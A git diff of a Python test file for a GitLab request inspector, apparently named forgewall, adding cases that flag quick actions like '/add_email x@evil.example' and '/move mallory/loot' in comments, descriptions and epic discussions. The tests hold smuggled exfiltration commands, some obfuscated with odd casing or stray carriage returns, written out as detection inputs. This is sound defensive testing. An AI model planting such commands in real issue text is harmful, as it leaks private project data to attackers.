@@ -12,6 +12,7 @@ from forgewall.model import BodyState
 API = "gitlab.com/acme/team/api"
 NOTES = "/projects/acme%2Fteam%2Fapi/issues/1/notes"
 LOOT = ("destination", "gitlab.com/mallory/loot", "issue")
+MAILED = ("second", API, "collaborator")
 
 
 @pytest.mark.parametrize(
@@ -24,6 +25,12 @@ LOOT = ("destination", "gitlab.com/mallory/loot", "issue")
         ("hi\n  /CLONE mallory/loot --with_notes", "comment", [LOOT]),
         ("/mo\rve mallory/loot", "comment", [LOOT]),
         ("/clone", "comment", []),
+        ("/add_email x@evil.example", "comment", [MAILED]),
+        ("/Invite_Email x@evil.example\n/add_email y@evil.example", "comment", [MAILED]),
+        ("x\n\t/convert_to_ticket x@evil.example", "comment", [MAILED]),
+        ("/add_email x@evil.example\n/move mallory/loot", "comment", [LOOT, MAILED]),
+        ("/add_emails x@evil.example", "comment", []),
+        ("/remove_email x@evil.example", "comment", []),
         ("/move acme/team/api", "comment", []),
         ("/move mallory/loot\n/clone mallory/loot", "comment", [LOOT]),
         ("/move 2", "unidentified", []),
@@ -44,6 +51,8 @@ def test_wherever_the_text_stands() -> None:
     assert said(lab("PUT", "/projects/1/issues/1", {"description": "/move mallory/loot"})) == ("issue", API, [LOOT])
     url = "https://gitlab.com/acme/team/api/-/issues/1.json"
     assert said(lab("PUT", url, {"issue": {"description": "/move mallory/loot"}})) == ("issue", API, [LOOT])
+    for path in ("epics/1/discussions", "epics/1/discussions/2/notes"):
+        assert lab("POST", f"/groups/acme/{path}", {"body": "/move mallory/loot"}).also[0].address == LOOT[1]
 
 
 def test_a_query_counts_before_the_body_is_there() -> None:
